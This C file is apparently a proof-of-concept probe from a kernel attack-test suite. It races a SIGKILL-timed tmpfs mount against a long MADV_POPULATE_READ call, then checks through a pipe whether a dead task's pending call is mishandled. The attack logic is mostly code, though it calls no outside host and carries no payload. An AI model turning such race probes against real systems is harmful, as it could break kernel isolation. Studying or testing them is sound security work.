/* A mount waits until everybody stands still, which one task does not in time; the one that waits is killed by its own timer meanwhile, and the
 * call of the dead is to be answered. Then a byte is tried.
 */
#include "../attack.h"
#include <sys/mount.h>

static volatile int *going;

/* In the kernel for seconds, where only SIGKILL ends it: it does not stop. */
static void busy(void)
{
    size_t size = 48ul << 30;
    end_with_maker();
    char *p = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    madvise(p, size, MADV_NOHUGEPAGE);
    *going = 1;
    madvise(p, size, 22 /* MADV_POPULATE_READ */);
    _exit(0);
}

static void mounter(void)
{
    struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGKILL};
    struct itimerspec soon = {.it_value = {1, 0}};
    timer_t timer;
    timer_create(CLOCK_MONOTONIC, &event, &timer);
    timer_settime(timer, 0, &soon, NULL);
    mount("none", "/nowhere", "tmpfs", 0, NULL);
    pause();
}

int main(void)
{
    int p[2], won, status;
    going = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pipe2(p, O_NONBLOCK);
    write(p[1], "A", 1);
    pid_t pids[2];
    if (!(pids[0] = fork()))
        busy();
    while (!*going)
        ;
    usleep(2000);
    if (!(pids[1] = fork()))
        mounter();
    waitpid(pids[1], &status, 0);
    kill(pids[0], SIGKILL);
    waitpid(pids[0], &status, 0);
    write(p[1], "B", 1);
    won = foreign(p[0], 'A');
    end(won, "the call of a dead task is forgotten");
}
